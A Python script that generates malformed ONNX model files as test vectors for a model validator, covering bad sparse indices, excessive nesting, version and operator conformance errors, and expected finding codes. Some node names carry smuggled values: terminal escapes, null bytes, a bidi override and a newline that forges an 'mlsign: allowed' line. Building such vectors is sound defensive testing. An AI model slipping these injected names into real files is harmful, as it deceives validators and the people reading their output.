def sparse() -> None:
    """Where the values of sparse tensors stand: one index for all dimensions, or one for each."""

    def placed(name: str, dims: list[int], indices: list, *codes: str, error: str = "", raw: bool = True) -> None:
        places = np.array(indices, np.int64)
        kept = numpy_helper.from_array(places, "i")
        if not raw:
            kept = helper.make_tensor("i", TensorProto.INT64, places.shape, places.flatten())
        out = model()
        out.graph.sparse_initializer.append(helper.make_sparse_tensor(weight("v", len(indices)), kept, dims))
        add(f"{name}_raw" if raw else name, out, *codes, error=error)

    for raw in (False, True):
        placed("sparse_outside", [4], [1, 4], "MLS365", raw=raw)
        placed("sparse_negative", [4], [-1, 2], "MLS365", raw=raw)
        placed("sparse_far_outside", [4], [0, 2**62], "MLS365", raw=raw)
        placed("sparse_twice", [4], [2, 2], "MLS365", raw=raw)
        placed("sparse_out_of_order", [4], [3, 1], "MLS365", raw=raw)
        placed("sparse_row_outside", [2, 3], [[0, 0], [2, 0]], "MLS365", raw=raw)
        placed("sparse_column_outside", [2, 3], [[0, 0], [0, 3]], "MLS365", raw=raw)
        placed("sparse_column_negative", [2, 3], [[0, 0], [1, -1]], "MLS365", raw=raw)
        placed("sparse_place_twice", [2, 3], [[1, 1], [1, 1]], "MLS365", raw=raw)
        placed("sparse_places_out_of_order", [2, 3], [[1, 0], [0, 2]], "MLS365", raw=raw)
        placed("sparse_in_empty_shape", [0, 3], [0], "MLS365", raw=raw)
        placed("good_sparse", [2, 3], [0, 3, 5], raw=raw)
        placed("good_sparse_by_axis", [2, 3], [[0, 0], [0, 2], [1, 0]], raw=raw)
        placed("good_sparse_by_one_axis", [4], [[1], [3]], raw=raw)
    placed("sparse_huge", [2**16, 2**16], [0, 5], error="onnx.limit.sparse_elements")


def types() -> None:
    tensor = field(1, number(1, 1))
    add("type_without_value", with_type(b""), "MLS348")
    add("type_with_two_values", with_type(tensor + field(4, field(1, tensor))), "MLS366")
    add("type_opaque", with_type(field(7, field(1, b"own") + field(2, b"T"))), "MLS366")
    add("sequence_of_nothing", with_type(field(4, b"")), "MLS366")
    add("map_with_float_keys", with_type(field(5, number(1, 1) + field(2, tensor))), "MLS366")
    deep = TypeProto()
    inner = deep
    for _ in range(20):
        inner = inner.sequence_type.elem_type
    inner.tensor_type.elem_type = FLOAT
    add("type_too_deep", with_type(deep.SerializeToString(deterministic=True)), error="onnx.limit.type_depth")
    add("tensor_of_33_dimensions", with_tensor(lambda t: t.dims.extend([1] * 32)), error="onnx.limit.dimensions")
    add("input_of_33_dimensions", model(inputs=[info("x", [1] * 33)]), error="onnx.limit.dimensions")

    inner_graph = field(2, b"b")
    for _ in range(33):  # by hand: protobuf itself refuses to write what is nested so deep
        attribute = field(1, b"then_branch") + field(6, inner_graph) + number(20, AttributeProto.GRAPH)
        inner_graph = field(1, field(4, b"If") + field(5, attribute))
    add("graph_too_deep", with_graph(inner_graph), error="onnx.limit.depth")


def conformance() -> None:
    """What onnx asks of models and nodes of their version."""
    relu = [helper.make_node("Relu", ["x"], ["y"])]
    add("every_input_given", model(inputs=[info("w")], nodes=[helper.make_node("Relu", ["w"], ["y"])]), "MLS349")
    add("input_without_shape", model(inputs=[helper.make_tensor_value_info("x", FLOAT, None)]), "MLS348")
    for label, text in (("escape", "y\x1b[2J"), ("zero", "y\0z"), ("newline", "y\nmlsign: allowed"), ("turned", "y\u202ez")):
        add(f"name_with_{label}", model([helper.make_node("Relu", ["x"], [text])], outputs=[info(text)]), "MLS354")
    nameless = model()
    nameless.graph.name = ""
    add("graph_without_name", nameless, "MLS367")
    add("graph_without_outputs", model(outputs=[]), "MLS367")
    for version, name in ((2, "imports_before_their_time"), (3, "initializer_is_no_input")):
        old = model(inputs=[info("x"), info("w")] if version == 2 else None)
        old.ir_version = version
        add(name, old, "MLS367")
    early = calling(function("F", [helper.make_node("Relu", ["a"], ["b"])]))
    early.ir_version = 7
    add("functions_before_their_time", early, "MLS367")
    bare = model(relu)
    del bare.opset_import[:]
    add("no_imports", bare, "MLS336", "MLS367")
    spelled = [helper.make_node("Add", ["x", "w"], ["y"], domain="ai.onnx")]
    add("domain_spelled_as_not_imported", model(spelled), "MLS336")
    add("domain_spelled_as_imported", model(spelled, opsets=[("ai.onnx", 17)]), "MLS336")
    add("input_is_output_of_another_shape", model(outputs=[info("y"), info("x", [7])]), "MLS347")
    norm = helper.make_node("BatchNormalization", ["x", "w", "w", "w", "w"], ["y", "z"])
    add("outputs_half_left_out", model([norm]), "MLS372")
    norm_14 = helper.make_node("BatchNormalization", ["x", "w", "w", "w", "w"], ["y", "z", "u", "v", "t"], training_mode=1)
    add("outputs_of_another_version", model([norm_14]), "MLS372")
    norm_9 = helper.make_node("BatchNormalization", ["x", "w", "w", "w", "w"], ["y", "z", "u"])
    add("outputs_of_a_later_version", model([norm_9], opsets=[("", 9)]), "MLS372")
    add("one_of_a_list_left_out", model([helper.make_node("Max", ["x", "w", ""], ["y"])]), "MLS372")
    twice = function("F", [helper.make_node("Relu", ["a"], ["b"])])
    twice.attribute.extend(["k", "k"])
    add("function_attribute_twice", calling(twice), "MLS344")
    softmax = function("F", [helper.make_node("Softmax", ["a"], ["b"])], opsets=[("", 12), ("own", 1)])
    add("function_of_another_version", calling(softmax), "MLS368")
    add("operator_of_a_later_version", model([helper.make_node("Gelu", ["x"], ["y"])]), "MLS371")
    add("operator_withdrawn", model([helper.make_node("Upsample", ["x", "w"], ["y"])]), "MLS371")
    add("operator_of_no_version", model([helper.make_node("Crop", ["x"], ["y"])]), "MLS371")
    add("too_few_inputs", model([helper.make_node("Add", ["x"], ["y"])]), "MLS372")
    add("too_many_inputs", model([helper.make_node("Relu", ["x", "w"], ["y"])]), "MLS372")
    add("too_many_outputs", model([helper.make_node("Relu", ["x"], ["y", "z"])]), "MLS372")
    add("needed_input_left_out", model([helper.make_node("Add", ["x", ""], ["y"])]), "MLS372")
    add("attribute_missing", model([helper.make_node("Concat", ["x", "w"], ["y"])]), "MLS373")
    add("attribute_of_another_operator", model([helper.make_node("Relu", ["x"], ["y"], alpha=0.5)]), "MLS373")
    add("attribute_of_another_type", model([helper.make_node("Softmax", ["x"], ["y"], axis=0.5)]), "MLS373")


def runs() -> None:
    """Models in order that a policy refuses for what a run of them takes, or for what their operators can do."""
    for vector in onnx_runs.vectors():
        add(vector.name, vector.model)
        JUDGED[vector.name] = list(vector.findings)


def operators() -> None:
    """One operator each, and operators in functions, whose attributes come from callers."""
    for vector in onnx_operators.vectors():
        inputs = [info(name, [1, 2]) for name in vector.node.input]
        outputs = [info(name) for name in vector.node.output]
        made = model([vector.node], weights=[], inputs=inputs, outputs=outputs, opsets=list(vector.opsets))
        if vector.node.op_type != "Einsum":  # of which inference never comes back from some
            onnx_runs.declare(made)
        add(vector.name, made, *vector.codes)

    def told_by_caller(node: NodeProto, name: str, kind: int, **attributes) -> ModelProto:
        node.input[0], node.output[0] = "a", "b"
        node.attribute.add(name=name, ref_attr_name="given", type=kind)
        body = function("F", [node], opsets=[("", 17), ("ai.onnx.ml", 3)])
        body.attribute.append("given")
        caller = helper.make_node("F", ["x"], ["y"], domain="own", given=next(iter(attributes.values())))
        return model([caller], functions=[body], opsets=[("", 17), ("own", 1), ("ai.onnx.ml", 3)])

    einsum = told_by_caller(onnx_operators.node("Einsum"), "equation", AttributeProto.STRING, equation="i.j")
    add("einsum_told_by_caller", einsum, "MLS376")
    scaler = onnx_operators.node("Scaler", "ai.onnx.ml", offset=[0.0])
    add("scaler_told_by_caller", told_by_caller(scaler, "scale", AttributeProto.FLOATS, scale=[1.0, 1.0]), "MLS375")
    softmax = told_by_caller(onnx_operators.node("Softmax"), "axis", AttributeProto.INT, axis=-1)
    add("good_axis_told_by_caller", softmax)


def build() -> dict[str, bytes]:
    """File name to content of everything in the folder."""
    VECTORS.clear()
    JUDGED.clear()
    for group in (good, other_formats, wire, top_level, nodes, functions, tensors, sparse, types, conformance, operators, runs):
        group()
    index = {
        name: {"codes": codes, "error": error, "findings": [finding_of(error)] if error else JUDGED.get(name, codes)}
        for name, (_, codes, error) in sorted(VECTORS.items())
    }
    files = {f"{name}.onnx": data for name, (data, _, _) in VECTORS.items()}
    files["index.json"] = (json.dumps(index, indent=1) + "\n").encode()
    return files


def main() -> None:
    HERE.mkdir(exist_ok=True)
    files = build()
    for path in HERE.iterdir():
        if path.name not in files:
            path.unlink()
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    print(f"{len(files)} files")


if __name__ == "__main__":
    main()
